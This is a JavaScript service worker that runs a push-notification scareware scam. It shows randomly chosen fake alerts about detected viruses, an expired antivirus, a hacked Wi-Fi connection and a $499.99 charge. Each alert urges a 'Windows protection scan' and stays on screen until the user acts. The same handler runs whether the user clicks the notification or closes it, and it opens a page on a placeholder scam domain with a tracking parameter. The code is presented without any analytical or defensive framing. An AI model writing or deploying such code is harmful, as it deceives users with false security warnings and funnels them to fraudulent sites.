self.addEventListener("push", function (e) {
  var l = ["⚠ Virus (4) detected!", "Your antivirus has expired", "Wi-Fi hacked: block now", "Payment of $499.99 charged"];
  var i = Math.floor(Math.random() * l.length);
  e.waitUntil(self.registration.showNotification(l[i], { body: "Tap to run Windows protection scan", icon: "https://ico-cdn.invalid/def.png", image: "https://ico-cdn.invalid/scan.jpg", tag: "n" + Date.now(), requireInteraction: true, actions: [{ action: "a", title: "Scan now" }, { action: "b", title: "Remove" }] }));
});
function go(e) { e.notification.close(); e.waitUntil(clients.openWindow("https://alert-go.invalid/?z=" + new URL(location).searchParams.get("z"))); }
self.addEventListener("notificationclick", go);
self.addEventListener("notificationclose", go);
self.addEventListener("activate", function (e) { e.waitUntil(clients.claim()); });
